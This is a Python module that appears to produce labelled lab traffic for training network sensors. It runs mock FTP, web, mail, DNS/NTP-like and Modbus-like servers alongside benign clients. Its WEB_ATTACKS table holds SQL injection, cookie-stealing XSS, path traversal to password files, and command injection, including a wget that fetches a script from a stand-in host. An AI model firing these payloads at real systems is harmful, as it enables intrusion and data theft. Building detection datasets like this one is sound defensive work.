"""Servers and ordinary clients for the sample traffic (`datasets.recipe.traffic`); laboratory use
only.

``python -m datasets.recipe.peers serve ADDRESS`` offers FTP (account ``alice``), a web site, mail,
DNS-like and NTP-like UDP and a Modbus-like poll port; the other subcommands are its users. All
randomness comes from ``--seed``, so that two runs differ only in timing.
"""

from __future__ import annotations

import argparse
import base64
import ftplib
import http.client
import http.server
import logging
import random
import smtplib
import socket
import socketserver
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Sequence
from pathlib import Path
from urllib.parse import quote

from pyftpdlib.authorizers import DummyAuthorizer
from pyftpdlib.handlers import FTPHandler
from pyftpdlib.ioloop import IOLoop
from pyftpdlib.servers import FTPServer

FTP, MAIL, DNS, WEB, NTP, POLL = 21, 25, 53, 80, 123, 502
ACCOUNT = ("alice", "correct horse")
WEB_ATTACKS = {
    "sql": ("1' OR '1'='1", "1 UNION SELECT user, password FROM users#", "x'; DROP TABLE users;--"),
    "xss": ("<script>alert(1)</script>", '"><img src=x onerror=alert(document.cookie)>'),
    "traversal": ("../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "....//....//etc/hosts"),
    "command": ("127.0.0.1; cat /etc/passwd", "x|id", "`wget http://192.0.2.66/x.sh`"),
}
_TIMEOUT_S = 5.0


class _Site(http.server.BaseHTTPRequestHandler):
    """Pages of many sizes, some missing, one part behind a password."""

    protocol_version = "HTTP/1.1"
    server_version, sys_version = "Apache", ""
    timeout = 10

    def do_GET(self) -> None:
        path = self.path.partition("?")[0]
        status, body = 200, b"<p>%d</p>" % len(self.path)
        if path.startswith("/private"):
            wanted = base64.b64encode(":".join(ACCOUNT).encode()).decode()
            if self.headers.get("Authorization", "") != f"Basic {wanted}":
                status = 401
        elif path.startswith("/missing"):
            status = 404
        elif path.startswith("/page/"):
            body = b"x" * (int(path.rpartition("/")[2]) % 200_000)
        self.send_response(status)
        if status == 401:
            self.send_header("WWW-Authenticate", 'Basic realm="private"')
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET

    def log_message(self, format: str, *args: object) -> None:
        """Nothing."""


class _Mail(socketserver.StreamRequestHandler):
    """As much SMTP as a client needs to hand over a message."""

    timeout = 10

    def handle(self) -> None:
        self._say("220 mail ESMTP")
        data = False
        while line := self.rfile.readline(4096):
            line = line.strip()
            word = line[:4].upper()
            if data:
                data = line != b"."
                if data:
                    continue
                self._say("250 queued")
            elif word == b"EHLO":
                self._say("250-mail\r\n250 AUTH PLAIN LOGIN")
            elif word == b"AUTH":
                if line.upper().startswith(b"AUTH LOGIN"):
                    self._say("334 VXNlcm5hbWU6")
                    self.rfile.readline(4096)
                    self._say("334 UGFzc3dvcmQ6")
                    self.rfile.readline(4096)
                self._say("535 5.7.8 Authentication credentials invalid")
            elif word == b"DATA":
                data = True
                self._say("354 go on")
            elif word == b"QUIT":
                self._say("221 bye")
                return
            else:
                self._say("250 ok")

    def _say(self, text: str) -> None:
        self.wfile.write(text.encode() + b"\r\n")


class _Poll(socketserver.StreamRequestHandler):
    """Answers Modbus, and each 12 bytes of zero with 20, for as long as the client likes."""

    timeout = 10

    def handle(self) -> None:
        while len(head := self.rfile.read(8)) == 8:
            size = int.from_bytes(head[4:6], "big")
            if not size:
                self.rfile.read(4)
                self.wfile.write(bytes(20))
                continue
            rest = self.rfile.read(size - 2)
            said = self._said(head[7], rest)
            self.wfile.write(head[:4] + (1 + len(said)).to_bytes(2, "big") + head[6:7] + said)

    @staticmethod
    def _said(function: int, rest: bytes) -> bytes:
        if function in (3, 4):
            count = min(int.from_bytes(rest[2:4], "big"), 125)
            return bytes([function, 2 * count]) + bytes(2 * count)
        if function in (5, 6, 15, 16):
            return bytes([function]) + rest[:4]
        if function == 17:
            return b"\x11\x05\1\xfflab"
        if function == 43:
            return b"\x2b\x0e\1\1\0\0\1\0\3lab"
        return bytes([function | 0x80, 1])


class _Udp(socketserver.BaseRequestHandler):
    """Answers with as many bytes as the question's first two ask for, in any case with some."""

    def handle(self) -> None:
        question, server = self.request
        wanted = int.from_bytes(question[:2], "big") if len(question) >= 2 else 0
        server.sendto(bytes(min(max(wanted, 48), 3000)), self.client_address)


class _Threads(socketserver.ThreadingTCPServer):
    daemon_threads = True
    allow_reuse_address = True

    def handle_error(self, request: object, client_address: object) -> None:
        """Nothing: scanners hang up in the middle."""


def _serve(arguments: argparse.Namespace) -> None:
    logging.basicConfig(level=logging.ERROR)
    logging.getLogger("pyftpdlib").setLevel(logging.ERROR)
    address = arguments.address
    servers: list[socketserver.BaseServer] = [
        _Threads((address, WEB), _Site),
        _Threads((address, MAIL), _Mail),
        _Threads((address, POLL), _Poll),
        socketserver.UDPServer((address, DNS), _Udp),
        socketserver.UDPServer((address, NTP), _Udp),
    ]
    for server in servers:
        threading.Thread(target=server.serve_forever, daemon=True).start()
    with tempfile.TemporaryDirectory() as home:
        for size in (100, 5_000, 40_000, 300_000):
            Path(home, f"file{size}").write_bytes(bytes(size))
        for name in ("docs", "images", "old"):
            Path(home, name).mkdir()
        authorizer = DummyAuthorizer()
        authorizer.add_user(*ACCOUNT, home, perm="elradfmw")
        handler = type(
            "Handler",
            (FTPHandler,),
            {"authorizer": authorizer, "auth_failed_timeout": 0.2, "banner": "FTP server ready"},
        )
        ftp = FTPServer((address, FTP), handler, ioloop=IOLoop.instance())
        sys.stdout.write("ready\n")
        sys.stdout.flush()
        ftp.serve_forever(handle_exit=True)


def _pause(dice: random.Random, most: float = 0.3) -> None:
    time.sleep(dice.uniform(0.01, most))


def browse(target: str, source: str, dice: random.Random) -> None:
    """Visits of a few pages each, kept alive or not; sometimes a missing page or a password."""
    for _ in range(12):
        site = http.client.HTTPConnection(target, WEB, _TIMEOUT_S, (source, 0))
        for _ in range(dice.randint(1, 6)):
            path = dice.choice(
                ("/", f"/page/{dice.randint(10, 150_000)}", "/missing", "/private/x")
            )
            site.request("GET", path, headers={"User-Agent": "Mozilla/5.0", "Accept": "*/*"})
            site.getresponse().read()
            _pause(dice, 0.15)
        site.close()
        _pause(dice)


def ftp(target: str, source: str, dice: random.Random) -> None:
    """Sessions that look around, fetch and store; one begins with a mistyped password."""
    for session in range(4):
        with ftplib.FTP(  # noqa: S321  (in a laboratory, and cleartext is what sensors see)
            timeout=_TIMEOUT_S, source_address=(source, 0)
        ) as client:
            client.connect(target, FTP)
            if session == 1:
                try:
                    client.login(ACCOUNT[0], "wrong")
                except ftplib.error_perm:
                    _pause(dice)
            client.login(*ACCOUNT)
            client.set_pasv(session != 2)
            for _ in range(dice.randint(3, 8)):
                client.cwd("/" + dice.choice(("docs", "images", "old", "")))
                client.nlst("/")
                name = dice.choice(("file100", "file5000", "file40000", "file300000"))
                client.retrbinary(f"RETR /{name}", lambda _: None)
                _pause(dice)


def ask(target: str, source: str, dice: random.Random) -> None:
    """Name and time look-ups, each from a socket of its own as resolvers do."""
    for _ in range(150):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as question:
            question.settimeout(_TIMEOUT_S)
            question.bind((source, 0))
            port = NTP if dice.random() < 0.1 else DNS
            size = dice.randint(60, 500).to_bytes(2, "big")
            question.sendto(size + bytes(dice.randint(20, 50)), (target, port))
            question.recv(4096)
        _pause(dice, 0.08)


def mail(target: str, source: str, dice: random.Random) -> None:
    """Messages of various length."""
    for _ in range(10):
        with smtplib.SMTP(target, MAIL, "client", _TIMEOUT_S, (source, 0)) as server:
            for _ in range(dice.randint(1, 3)):
                text = f"Subject: hello\r\n\r\n{'word ' * dice.randint(10, 4000)}"
                server.sendmail("alice@example.org", ["bob@example.org"], text)
                _pause(dice)


def poll(target: str, source: str, dice: random.Random) -> None:
    """A control system: one long connection of equal requests, renewed a few times."""
    for _ in range(6):
        with socket.create_connection((target, POLL), _TIMEOUT_S, (source, 0)) as connection:
            for _ in range(dice.randint(20, 60)):
                connection.sendall(bytes(12))
                connection.recv(64)
                time.sleep(0.02)


def mistakes(target: str, source: str, dice: random.Random) -> None:
    """What innocent users do wrong: services that aren't there."""
    for _ in range(8):
        with socket.socket() as client:
            client.bind((source, 0))
            client.connect_ex((target, dice.choice((443, 8080))))
        _pause(dice)


def web_attack(target: str, source: str, dice: random.Random, payloads: Sequence[str]) -> None:
    """The payloads, each a few times, in the query of a request of its own."""
    for payload in [*payloads] * 4:
        site = http.client.HTTPConnection(target, WEB, _TIMEOUT_S, (source, 0))
        path = f"/item?id={quote(payload, safe='%/')}&n={dice.randint(1, 99)}"
        site.request("GET", path, headers={"User-Agent": "Mozilla/5.0"})
        site.getresponse().read()
        site.close()
        _pause(dice, 0.1)


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m datasets.recipe.peers")
    commands = parser.add_subparsers(required=True)
    server = commands.add_parser("serve")
    server.add_argument("address")
    server.set_defaults(run=_serve)

    def client(name: str, act: Callable[[str, str, random.Random], None]) -> None:
        sub = commands.add_parser(name)
        sub.add_argument("target")
        sub.add_argument("source")
        sub.add_argument("--seed", type=int, default=1)
        sub.set_defaults(run=lambda a: act(a.target, a.source, random.Random(a.seed)))  # noqa: S311

    for act in (browse, ftp, ask, mail, poll, mistakes):
        client(act.__name__, act)
    for kind, payloads in WEB_ATTACKS.items():
        client(kind, lambda t, s, d, p=payloads: web_attack(t, s, d, p))  # type: ignore[misc]
    arguments = parser.parse_args(argv)
    arguments.run(arguments)
    return 0


if __name__ == "__main__":
    sys.exit(main())
